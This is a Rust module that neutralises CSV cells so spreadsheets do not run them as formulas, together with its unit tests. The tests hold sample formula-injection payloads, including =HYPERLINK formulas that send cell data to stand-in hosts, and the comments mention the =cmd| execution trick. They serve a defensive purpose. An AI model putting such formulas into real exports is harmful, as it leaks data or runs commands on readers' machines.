//! CSV cells a spreadsheet will not run as formulas.
//!
//! The breach register and the audit trail are exported as CSV for the DPO, who opens them in a
//! spreadsheet. Text that reaches them comes from people and agents — a revoke reason, a
//! triage note, a file name — and a spreadsheet runs a cell starting with `=`, `+`, `-` or `@`
//! as a formula (`=HYPERLINK(…)` exfiltrates, `=cmd|…` executes on some). Following OWASP's
//! rule for CSV injection, such a cell, and one starting with a tab or a carriage return
//! (which some spreadsheets skip before looking for the `=`), is prefixed with a single quote:
//! shown as text, its content otherwise intact.

use std::borrow::Cow;

/// `cell` as text a spreadsheet shows rather than evaluates.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

/// A whole CSV document with every cell neutralised (the header too; ours never starts with
/// one of the characters). Used on what `csv::Writer` produced from serialised rows, so the
/// rows' types stay as they are.
pub fn neutralise_document(csv_bytes: &[u8]) -> Result<Vec<u8>, csv::Error> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv_bytes);
    let mut writer = csv::Writer::from_writer(Vec::with_capacity(csv_bytes.len() + 64));
    for record in reader.records() {
        let record = record?;
        writer.write_record(record.iter().map(neutralise).map(|c| c.into_owned()))?;
    }
    writer.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_starting_like_a_formula_are_quoted_and_others_untouched() {
        for evil in ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"] {
            assert_eq!(neutralise(evil), format!("'{evil}"), "{evil:?}");
        }
        for fine in ["", "host decommissioned", "2026-11-20T10:00:00Z", "a=b", "42"] {
            assert_eq!(neutralise(fine), fine);
        }
    }

    #[test]
    fn a_document_is_rewritten_cell_by_cell_keeping_quoting_and_newlines() {
        let doc = b"at,detail\n2026,\"=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"\n2027,\"two\nlines, @SUM\"\n";
        let out = String::from_utf8(neutralise_document(doc).unwrap()).unwrap();
        let cells: Vec<Vec<String>> =
            csv::ReaderBuilder::new().has_headers(false).from_reader(out.as_bytes()).records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
        assert_eq!(cells[1][1], "'=HYPERLINK(\"http://evil\",\"x\")");
        assert_eq!(cells[2][1], "two\nlines, @SUM", "only the start of a cell matters");
    }
}
